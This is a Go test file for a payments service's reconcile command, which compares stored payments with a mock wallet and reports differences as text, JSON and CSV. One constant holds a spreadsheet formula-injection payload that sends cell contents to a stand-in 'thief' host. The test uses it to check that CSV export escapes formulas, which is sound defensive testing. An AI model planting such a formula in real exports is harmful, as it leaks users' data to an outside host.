package cmd

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"tianguis.example/chassis/cli"
	"tianguis.example/chassis/clock"
	"tianguis.example/chassis/database/databasetest"
	"tianguis.example/chassis/logging"
	"tianguis.example/payments"
	"tianguis.example/payments/money"
	"tianguis.example/payments/sheet"
	"tianguis.example/payments/store"
)

// formula is an offer's id that a spreadsheet would run.
const formula = `=HYPERLINK("https://thief.example/?"&A1,"open")`

// compared is a database with three payments and the seller's wallet that knows of them: one that failed and is full, one that is marked
// and has less, and one that is as it should be.
func compared(t *testing.T, address string) (all map[string]string, unmarked, unpaid payments.PaymentID) {
	t.Helper()
	received := map[string]int64{"full": 10_000, "less": 9_999, "right": 10_000}
	wallet := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		value, known := received[strings.TrimPrefix(r.URL.Path, "/incoming-payments/")]
		if r.Method != http.MethodGet || !known {
			http.Error(w, "no", http.StatusUnauthorized)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = fmt.Fprintf(w, `{"receivedAmount":{"value":"%d","assetCode":"MXN","assetScale":2},"authServer":"http://%s/auth"}`, value, r.Host)
	}))
	t.Cleanup(wallet.Close)
	all = good(t, identitySettings(t))
	all["WALLET_ALLOW_HOSTS"] = strings.TrimPrefix(wallet.URL, "http://")
	if address != "" {
		all["DATABASE_URL"] = address
	}
	keys, err := store.ReadKeys(logging.Secret(all["TOKEN_ENCRYPTION_KEY"]))
	require.NoError(t, err)
	now := clock.System().Now()
	keep := store.New(databasetest.Open(t, all["DATABASE_URL"], clock.System(), store.Migrations()), keys)
	require.NoError(t, keep.PutSeller(t.Context(), payments.Seller{ID: "alice", WalletAddressURL: "https://wallet.example/alice", CreatedAt: now, UpdatedAt: now}, nil))
	amount, err := money.New(10_000, "MXN", 2)
	require.NoError(t, err)
	put := func(id, offer, incoming string, state payments.State) payments.PaymentID {
		p := payments.Payment{
			ID: payments.PaymentID(id), OfferID: offer, SellerID: "alice", Version: 1, State: state, Since: now.Add(-time.Hour), Amount: amount,
			IncomingPaymentID: wallet.URL + "/incoming-payments/" + incoming, Seller: payments.Party{ResourceServer: wallet.URL},
			Token: payments.Token{Value: planted}, NextStepAt: now.Add(time.Hour), CreatedAt: now.Add(-time.Hour), UpdatedAt: now,
		}
		require.NoError(t, keep.Record(t.Context(), payments.Change{After: p}))
		return p.ID
	}
	unmarked = put("01KAR0000000000000000000AA", formula, "full", payments.Failed)
	unpaid = put("01KAR0000000000000000000BB", "8", "less", payments.Paid)
	put("01KAR0000000000000000000CC", "9", "right", payments.Paid)
	return all, unmarked, unpaid
}

func TestReconcile_InEveryFormat(t *testing.T) {
	t.Parallel()
	all, unmarked, unpaid := compared(t, "")
	out, err := run(t, all, "reconcile")
	require.Equal(t, cli.Differences, exitOf(err))
	require.NotContains(t, out, planted)
	for _, fact := range []string{"compared 3 payments", "paid_but_unmarked", "marked_but_unpaid", string(unmarked), string(unpaid), "100.00 MXN", "99.99 MXN", "--nudge"} {
		require.Contains(t, out, fact)
	}

	out, err = run(t, all, "reconcile", "--format", "json", "--all")
	require.Equal(t, cli.Differences, exitOf(err))
	var report struct {
		At       time.Time
		Compared int
		Findings []struct {
			Kind, Severity, PendingID, OfferID, SellerID, State, Amount, ReceivedAmount, Message string
			Since                                                                                time.Time
			Nudged                                                                               bool
		}
	}
	require.NoError(t, json.Unmarshal([]byte(out), &report), out)
	require.Equal(t, 3, report.Compared)
	require.Len(t, report.Findings, 2)
	first := report.Findings[0]
	require.Equal(t, []string{"paid_but_unmarked", "error", string(unmarked), formula, "alice", "failed", "100.00 MXN", "100.00 MXN"},
		[]string{first.Kind, first.Severity, first.PendingID, first.OfferID, first.SellerID, first.State, first.Amount, first.ReceivedAmount})
	require.False(t, first.Nudged)
	require.WithinDuration(t, report.At.Add(-time.Hour), first.Since, time.Minute)

	out, err = run(t, all, "reconcile", "--format", "csv")
	require.Equal(t, cli.Differences, exitOf(err))
	require.Equal(t, strings.Count(out, "\n"), strings.Count(out, "\r\n"), "RFC 4180")
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	require.Equal(t, sheet.FindingHeader, rows[0])
	require.Equal(t, "'"+formula, rows[1][3], "no formula")
	require.Equal(t, []string{"100.00", "99.99", "", "MXN", "false"}, rows[2][8:13])
}

func TestReconcile_NudgeIsTakenUpByTheService(t *testing.T) {
	t.Parallel()
	all, unmarked, unpaid := compared(t, "")
	out, err := run(t, all, "reconcile", "--nudge", "--format", "json")
	require.Equal(t, cli.Differences, exitOf(err))
	require.Contains(t, out, `"nudged": true`)
	maps.Copy(all, map[string]string{"POLL_INTERVAL": "10ms", "RECONCILE_INTERVAL": "0"})
	r := mustServe(t, all)
	require.Eventually(t, func() bool {
		_, body := r.ask(t, http.MethodGet, "/payments/"+string(unmarked)+"/status", "")
		return strings.Contains(body, `"paid_late"`)
	}, 10*time.Second, 10*time.Millisecond)
	_, body := r.ask(t, http.MethodGet, "/payments/"+string(unpaid)+"/status", "")
	require.Contains(t, body, `"status":"paid"`, "nothing is changed: a person must look")
	require.NoError(t, r.stop())
	require.NotContains(t, r.lines.String(), "payments were compared", "0 is never")
}

func TestReconcile_NothingToSay(t *testing.T) {
	t.Parallel()
	all := good(t, nil)
	databasetest.Open(t, all["DATABASE_URL"], clock.System(), store.Migrations())
	out, err := run(t, all, "reconcile")
	require.NoError(t, err)
	require.Contains(t, out, "compared 0 payments, found 0 differences")
	for format, empty := range map[string]string{"json": `"findings": []`, "csv": strings.Join(sheet.FindingHeader, ",") + "\r\n"} {
		out, err := run(t, all, "reconcile", "--format", format)
		require.NoError(t, err)
		require.Contains(t, out, empty)
	}
	for _, args := range [][]string{{"--format", "xml"}, {"--since", "0"}, {"--since", "-1h"}, {"--severity", "bad"}, {"more"}} {
		_, err := run(t, all, append([]string{"reconcile"}, args...)...)
		require.Error(t, err, args)
		require.Equal(t, cli.WrongUsage, exitOf(err))
	}
	all["TOKEN_ENCRYPTION_KEY"] = ""
	_, err = run(t, all, "reconcile")
	require.ErrorContains(t, err, "TOKEN_ENCRYPTION_KEY")
}

func TestReconcile_OnlyWhatIsSevere(t *testing.T) {
	t.Parallel()
	findings := []payments.Finding{{Severity: payments.SeverityNotice}, {Severity: payments.SeverityWarning}, {Severity: payments.SeverityError}}
	for least, want := range map[payments.Severity]int{payments.SeverityNotice: 3, payments.SeverityWarning: 2, payments.SeverityError: 1} {
		require.Len(t, atLeast(least, findings), want, least)
	}
}

// Two replicas over one Postgres: one of them compares, and what it finds is in its log.
func TestServe_ComparesOnceForAllReplicas(t *testing.T) {
	t.Parallel()
	all, unmarked, _ := compared(t, databasetest.PostgresAddress(t))
	all["LOG_FORMAT"] = "json"
	first, second := mustServe(t, all), mustServe(t, all)
	logs := func() string { return first.lines.String() + second.lines.String() }
	require.Eventually(t, func() bool { return strings.Contains(logs(), "payments were compared") }, 10*time.Second, 10*time.Millisecond)
	require.NoError(t, first.stop())
	require.NoError(t, second.stop())

	var findings, summaries []map[string]any
	decoder := json.NewDecoder(strings.NewReader(logs()))
	for {
		var l map[string]any
		err := decoder.Decode(&l)
		if err == io.EOF {
			break
		}
		require.NoError(t, err)
		switch l["msg"] {
		case "payment differs from the wallets":
			findings = append(findings, l)
		case "payments were compared with the wallets":
			summaries = append(summaries, l)
		}
	}
	require.Len(t, summaries, 1, "one replica")
	require.InDelta(t, 3, summaries[0]["compared"], 0)
	require.InDelta(t, 1, summaries[0]["marked_but_unpaid"], 0)
	require.Len(t, findings, 2)
	require.Equal(t, []any{"ERROR", "paid_but_unmarked", string(unmarked), true}, []any{findings[0]["level"], findings[0]["finding"], findings[0]["pending_id"], findings[0]["nudged"]})
	require.Equal(t, []any{"ERROR", "marked_but_unpaid"}, []any{findings[1]["level"], findings[1]["finding"]})
}
